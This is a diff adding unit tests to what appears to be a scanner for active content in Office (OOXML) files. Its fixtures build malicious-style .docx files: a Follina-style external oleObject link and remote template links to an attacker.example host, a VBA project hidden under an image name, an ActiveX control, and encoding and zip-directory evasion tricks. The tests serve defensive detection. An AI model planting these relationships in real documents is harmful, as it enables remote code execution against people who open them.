@@ -103,6 +103,52 @@ describe("OOXML active content", () => {
     expect(reasons(file)).toEqual(["office_macros"]);
   });
 
+  // The relationship type, not a part's name or content type, is what makes Word load a
+  // part as a VBA project, an OLE object or a template: .rels parts are read like
+  // [Content_Types].xml (deflated, so their words are not in the file's bytes).
+  const relsWith = (rel: string) => `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rel}</Relationships>`;
+  const R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
+
+  it("refuses an external oleObject relationship (CVE-2022-30190, Follina: no OLE part, nothing in [Content_Types].xml)", () => {
+    const rels = relsWith(`<Relationship Id="rId9" Type="${R}/oleObject" Target="http://attacker.example/x.html!" TargetMode="External"/>`);
+    const file = docx({ "word/_rels/document.xml.rels": strToU8(rels) });
+    expect(file.includes("oleObject")).toBe(false);
+    expect(reasons(file)).toEqual(["office_ole_object"]);
+  });
+
+  it("refuses a VBA project under another name, found by its relationship type", () => {
+    const rels = relsWith('<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vba&#80;roject" Target="media/image9.bin"/>');
+    const file = docx({ "word/_rels/document.xml.rels": strToU8(rels), "word/media/image9.bin": new Uint8Array([0xd0, 0xcf, 0x11, 0xe0]) });
+    expect(reasons(file)).toEqual(["office_macros"]);
+  });
+
+  it("refuses an ActiveX control relationship and a remote template; passes a local Normal.dotm template", () => {
+    expect(reasons(docx({ "word/_rels/document.xml.rels": strToU8(relsWith(`<Relationship Id="rId9" Type="${R}/control" Target="ctl/c1.xml"/>`)) }))).toEqual(["office_ole_object"]);
+    const template = (target: string) => docx({ "word/_rels/settings.xml.rels": strToU8(relsWith(`<Relationship Id="rId1" Type="${R}/attachedTemplate" Target="${target}" TargetMode="External"/>`)) });
+    expect(reasons(template("https://attacker.example/t.dotm"))).toEqual(["office_macros"]);
+    expect(reasons(template("\\\\attacker.example\\share\\t.dotm"))).toEqual(["office_macros"]);
+    expect(reasons(template("file:///C:\\Users\\me\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm"))).toEqual([]);
+  });
+
+  it("reads a UTF-16 [Content_Types].xml or .rels without a byte-order mark (XML 1.0 appendix F autodetection)", () => {
+    const types = contentTypes('<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>').replace('encoding="UTF-8"', 'encoding="UTF-16"');
+    expect(reasons(Buffer.from(zipSync({ "[Content_Types].xml": Buffer.from(types, "utf16le"), "word/document.xml": strToU8(DOCUMENT) })))).toEqual(["office_macros"]);
+    const rels = relsWith(`<Relationship Id="rId9" Type="${R}/oleObject" Target="http://attacker.example/x" TargetMode="External"/>`).replace('encoding="UTF-8"', 'encoding="UTF-16"');
+    expect(reasons(docx({ "word/_rels/document.xml.rels": Buffer.from(rels, "utf16le").swap16() }))).toEqual(["office_ole_object"]);
+  });
+
+  it("refuses an XML part declaring an encoding other than UTF-8 or UTF-16 (OPC admits only those)", () => {
+    const types = contentTypes().replace('encoding="UTF-8"', 'encoding="UTF-7"');
+    expect(check(docx({}, types))[0]).toMatchObject({ reason: "unscannable", detail: expect.stringMatching(/UTF-7/) });
+  });
+
+  it("refuses a .rels part that only the central directory names as one", () => {
+    const rels = relsWith(`<Relationship Id="rId9" Type="${R}/oleObject" Target="http://attacker.example/x" TargetMode="External"/>`);
+    const file = docx({ "word/_rels/document.xml.rels": strToU8(rels) });
+    file.write("word/_rels/document.xml.relz", file.indexOf("word/_rels/document.xml.rels"), "latin1"); // local header only
+    expect(check(file)).toContainEqual(expect.objectContaining({ reason: "unscannable", detail: expect.stringMatching(/central directory names word\/_rels\/document\.xml\.rels/) }));
+  });
+
   it("refuses a [Content_Types].xml it cannot read: truncated, another method, a DTD, named only in the central directory", () => {
     const whole = docx();
     const data = whole.indexOf("[Content_Types].xml") + "[Content_Types].xml".length; // fflate writes no extra field
